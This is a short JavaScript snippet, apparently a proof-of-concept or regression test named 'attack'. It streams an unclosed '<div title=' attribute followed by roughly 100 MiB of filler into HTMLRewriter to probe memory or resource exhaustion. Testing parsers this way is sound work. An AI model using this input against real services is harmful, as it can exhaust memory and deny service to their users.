export default async function attack() {
  let left = 100;
  const page = new ReadableStream({
    pull(controller) {
      if (left-- === 0) return controller.close();
      controller.enqueue(new TextEncoder().encode((left === 99 ? "<div title='" : "") + "x".repeat(1 << 20)));
    },
  });
  const rewriter = new HTMLRewriter().on("*", { element() {} });
  const text = await rewriter.transform(new Response(page)).text();
  return new Response(String(text.length));
}
